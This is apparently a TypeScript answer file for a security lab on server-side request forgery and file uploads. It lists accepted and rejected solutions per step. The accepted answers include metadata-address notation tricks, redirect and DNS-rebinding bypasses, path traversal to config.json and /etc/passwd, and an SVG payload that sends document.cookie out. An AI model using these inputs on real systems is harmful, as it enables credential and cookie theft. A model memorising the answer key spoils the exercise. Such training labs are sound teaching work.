import { BETWEEN, inOneText } from '@/labs/http/written';
import { SSRF_LAB } from '@/labs/exercises/ssrf-lab/lab';
import { CREDENTIALS_PATH, FILES_ORIGIN } from '@/labs/exercises/ssrf-lab/places';
import {
  fetchBy,
  GIF,
  METADATA_URL,
  PAGE,
  PARTNER_REDIRECT_URL,
  POLYGLOT,
  REBINDING_URL,
  REDIRECT_URL,
  upload,
  WHEEL,
} from '@/labs/exercises/ssrf-lab/requests';
import type { Answers } from './judges';

const solution = (id: string) =>
  SSRF_LAB.steps.find((step) => step.id === id)?.solution.split(BETWEEN) ?? [];
/** The solution of a step without one of its requests, by its number from 1. */
const without = (id: string, number: number) =>
  inOneText(...solution(id).filter((_, index) => index !== number - 1));
const changed = (id: string, from: string, to: string) =>
  inOneText(...solution(id)).replaceAll(from, to);
const at = (host: string) => `http://${host}${CREDENTIALS_PATH}`;

const SETTING = JSON.stringify({ pictureHosts: ['pictures.partner.example', 'attacker.example'] });
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="sendTo(document.cookie)"/>';
const STRICT_FILE = `GET ${FILES_ORIGIN}/p1.gif`;

const RIGHT: Answers['right'] = {
  metadata: [
    fetchBy('open', REDIRECT_URL),
    inOneText(fetchBy('open', WHEEL), fetchBy('open', at('inside.attacker.example'))),
    fetchBy('open', at('2852039166')),
  ],
  notation: [
    ...['2852039166', '0251.0376.0251.0376', '169.254.43518', '[::ffff:a9fe:a9fe]'].map((host) =>
      fetchBy('names', at(host)),
    ),
    fetchBy('names', at('inside.attacker.example')),
    fetchBy('names', `http://attacker.example/go?to=${at('0xa9fea9fe')}`),
  ],
  redirect: [
    fetchBy('first', PARTNER_REDIRECT_URL),
    fetchBy('first', `http://attacker.example/go?to=${at('inside.attacker.example')}`),
    fetchBy('first', `http://attacker.example/go?to=/go?to=${METADATA_URL}`),
  ],
  rebinding: [
    inOneText(
      fetchBy('open', REBINDING_URL),
      fetchBy('twice', REBINDING_URL),
      fetchBy('twice', REBINDING_URL),
    ),
    fetchBy('twice', `http://attacker.example/go?to=${REBINDING_URL}`),
  ],
  pinned: [
    inOneText(...solution('pinned').reverse()),
    inOneText(
      fetchBy('pinned', 'http://127.1:9229/'),
      fetchBy('pinned', PARTNER_REDIRECT_URL),
      fetchBy('pinned', REBINDING_URL),
      fetchBy('pinned', WHEEL),
    ),
  ],
  strict: [
    inOneText(...solution('strict').reverse()),
    changed('strict', 'http://2852039166', 'https://10.0.0.5'),
  ],
  traversal: [
    changed('traversal', '../config.json', './../../shop/uploads/../config.json'),
    inOneText(
      upload('open', '../config.json', 'image/gif', SETTING),
      fetchBy('strict', WHEEL),
      fetchBy('strict', 'https://attacker.example/anything'),
    ),
  ],
  'type-lie': [
    inOneText(upload('type', 'sale.svg', 'image/svg+xml', SVG), 'GET /files/sale.svg'),
    inOneText(upload('type', 'sale', 'image/png', PAGE), 'GET /files/sale'),
    inOneText(upload('type', '../x/SALE.HTM', 'image/x', PAGE), 'GET /files/SALE.HTM'),
  ],
  polyglot: [
    inOneText(
      upload('bytes', 'a.html', 'text/html', `GIF87a<img src=x onerror=go()>`),
      'GET /files/a.html',
    ),
    inOneText(
      upload('bytes', 'wheel.gif', 'image/gif', GIF),
      upload('bytes', 'b.svg', 'image/gif', POLYGLOT),
      'GET /files/b.svg',
    ),
  ],
  'strict-upload': [
    inOneText(
      upload('strict', '../../../etc/passwd', 'image/gif', POLYGLOT),
      upload('strict', 'x.svg', 'image/svg+xml', SVG),
      STRICT_FILE,
    ),
    inOneText(
      upload('strict', 'wheel.gif', 'image/gif', GIF),
      ...solution('strict-upload').slice(0, 3),
      `GET ${FILES_ORIGIN}/p2.gif`,
    ),
  ],
};

const NO_KEYS = 'have not come out by this door';

const WRONG: Answers['wrong'] = {
  metadata: [
    [NO_KEYS, fetchBy('names', at('2852039166'))],
    ['not the keys', fetchBy('open', 'http://10.0.0.5/')],
    ['not the keys', fetchBy('open', 'http://localhost:9229/')],
    [NO_KEYS, fetchBy('open', 'http://169.254.169.254/latest/meta-data/')],
    [NO_KEYS, fetchBy('open', METADATA_URL.replace('http:', 'https:'))],
    [NO_KEYS, fetchBy('open', `https://attacker.example/${METADATA_URL}`)],
    [NO_KEYS, 'POST /fetch/open\n\n{"url":1}'],
    [NO_KEYS, fetchBy('open', 'file:///srv/shop/config.json')],
    ['A request has no answer', 'GET /fetch/open\n\n{}'],
    ['Nothing was sent', 'the keys, please'],
  ],
  notation: [
    ['The list has found', fetchBy('names', 'http://localhost:9229/')],
    ['The list has found', fetchBy('names', at('[::ffff:169.254.169.254]'))],
    ['The list has found', fetchBy('names', REDIRECT_URL)],
    [NO_KEYS, fetchBy('open', METADATA_URL)],
    [NO_KEYS, fetchBy('names', at('0xa9fea9ff'))],
    [NO_KEYS, fetchBy('names', at('256.254.169.254.1'))],
    [NO_KEYS, fetchBy('names', 'http://2130706433:9229/')],
  ],
  redirect: [
    ['has to be a public one', fetchBy('first', at('inside.attacker.example'))],
    ['has to be a public one', fetchBy('first', at('[::ffff:a9fe:a9fe]'))],
    ['has to be a public one', fetchBy('first', 'http://[::1]/')],
    ['Follow its hops', fetchBy('first', REBINDING_URL)],
    ['Follow its hops', fetchBy('first', 'http://attacker.example/go?to=http://10.0.0.5/')],
    [NO_KEYS, fetchBy('open', REDIRECT_URL)],
    [NO_KEYS, fetchBy('first', 'http://attacker.example/go?to=ftp://169.254.169.254/')],
    [NO_KEYS, fetchBy('first', 'http://attacker.example/go?to=http://')],
  ],
  rebinding: [
    ['saw an address inside', fetchBy('twice', at('2852039166'))],
    ['saw an address inside', fetchBy('twice', PARTNER_REDIRECT_URL)],
    [
      'saw an address inside',
      inOneText(fetchBy('open', REBINDING_URL), fetchBy('twice', REBINDING_URL)),
    ],
    [NO_KEYS, fetchBy('pinned', REBINDING_URL)],
    [NO_KEYS, fetchBy('open', REBINDING_URL)],
    [NO_KEYS, fetchBy('twice', 'http://rebind.attacker.example/')],
    [NO_KEYS, fetchBy('twice', REBINDING_URL.replace('http:', 'https:'))],
  ],
  pinned: [
    ['No address inside', without('pinned', 1)],
    ['No redirect', without('pinned', 2)],
    ['changing answers', without('pinned', 3)],
    ['partner’s picture', without('pinned', 4)],
    ['No address inside', changed('pinned', '/fetch/pinned', '/fetch/twice')],
    ['partner’s picture', changed('pinned', '/wheel.gif', '/out?to=/wheel.gif')],
    ['No address inside', changed('pinned', '2852039166', 'attacker.example')],
  ],
  strict: [
    ['No address inside', without('strict', 1)],
    ['No redirect', without('strict', 2)],
    ['changing answers', without('strict', 3)],
    ['attacker’s own server', without('strict', 4)],
    ['partner’s picture', without('strict', 5)],
    ['No address inside', changed('strict', '/fetch/strict', '/fetch/pinned')],
    ['No redirect', changed('strict', 'pictures.partner.example/out', 'attacker.example/go')],
  ],
  traversal: [
    ['The setting is as it was', changed('traversal', '../config.json', 'config.json')],
    ['The setting is as it was', changed('traversal', '../config.json', '../../config.json')],
    ['The setting is as it was', changed('traversal', '/files/open', '/files/type')],
    ['The setting is as it was', changed('traversal', '/files/open', '/files/strict')],
    ['The setting is as it was', without('traversal', 1)],
    ['No other host’s picture', without('traversal', 2)],
    ['No other host’s picture', inOneText(...solution('traversal').reverse())],
    ['No other host’s picture', changed('traversal', '{"pictureHosts"', '{"hosts"')],
    ['No other host’s picture', changed('traversal', '/fetch/strict', '/fetch/open')],
  ],
  'type-lie': [
    ['No uploaded file was opened', without('type-lie', 2)],
    ['did not take the file', changed('type-lie', 'image/gif', 'text/html')],
    ['no script has run', changed('type-lie', 'sale.html', 'sale.txt')],
    ['no script has run', changed('type-lie', 'script', 'b')],
    ['No uploaded file was opened', changed('type-lie', '/files/type', '/files/open')],
    [
      'no script has run',
      inOneText(upload('type', 'sale', 'image/gif', POLYGLOT), 'GET /files/sale'),
    ],
    [
      'No uploaded file was opened',
      changed('type-lie', 'GET /files/sale.html', 'GET /files/other'),
    ],
  ],
  polyglot: [
    ['does not begin like a picture', changed('polyglot', 'GIF89a', 'GIF88a')],
    ['does not begin like a picture', changed('polyglot', 'GIF89a', '.GIF89a')],
    ['no script has run', changed('polyglot', 'sale.html', 'sale.gif')],
    ['no script has run', changed('polyglot', 'sale.html', 'sale')],
    ['No uploaded file was opened', without('polyglot', 2)],
    ['No uploaded file was opened', changed('polyglot', '/files/bytes', '/files/type')],
    [
      'no script has run',
      inOneText(upload('bytes', 'a.html', 'image/gif', GIF), 'GET /files/a.html'),
    ],
  ],
  'strict-upload': [
    ['No name that climbs', without('strict-upload', 1)],
    ['No page that is declared', without('strict-upload', 2)],
    ['from the other site', without('strict-upload', 3)],
    ['from the other site', without('strict-upload', 4)],
    ['No name that climbs', changed('strict-upload', '/files/strict', '/files/bytes')],
    ['from the other site', changed('strict-upload', FILES_ORIGIN, '/files')],
    ['No page that is declared', changed('strict-upload', 'image/gif', 'text/html')],
  ],
};

export const ANSWERS: Answers = { right: RIGHT, wrong: WRONG };
